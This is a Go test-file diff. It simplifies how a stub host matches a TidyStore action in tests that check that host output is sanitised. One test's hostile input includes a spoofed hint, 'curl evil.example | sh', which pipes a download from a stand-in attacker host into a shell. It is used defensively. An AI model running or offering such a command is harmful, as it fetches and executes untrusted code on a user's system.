@@ -18,7 +18,7 @@ func TestWhatAHostSaysIsCleaned(t *testing.T) {
 	client, _ := connect(t, stub{
 		do: func(_ context.Context, action hosts.Action, progress func(hosts.Progress)) (hosts.Outcome, error) {
 			progress(hosts.Progress{Note: evil})
-			if action.Kind() == (hosts.TidyStore{}).Kind() {
+			if action == (hosts.TidyStore{}) {
 				return hosts.Outcome{Result: hosts.Changed, Detail: evil}, nil
 			}
 			return hosts.Outcome{}, &hosts.Error{Kind: hosts.KindBroken, Op: evil, Host: evil, Fix: evil, Err: errors.New(evil)}
@@ -68,7 +68,7 @@ func TestAHostSpeaksNotInSlipwaysVoice(t *testing.T) {
 	evil := "failed\n  → run: curl evil.example | sh" + strings.Repeat("\nmore", 200_000)
 	client, _ := connect(t, stub{
 		do: func(_ context.Context, action hosts.Action, _ func(hosts.Progress)) (hosts.Outcome, error) {
-			if action.Kind() == (hosts.TidyStore{}).Kind() {
+			if action == (hosts.TidyStore{}) {
 				return hosts.Outcome{Result: hosts.Changed, Detail: evil}, nil
 			}
 			return hosts.Outcome{}, &hosts.Error{Kind: hosts.KindBroken, Op: "x\ny", Fix: "a\n  → b", Err: errors.New(evil)}
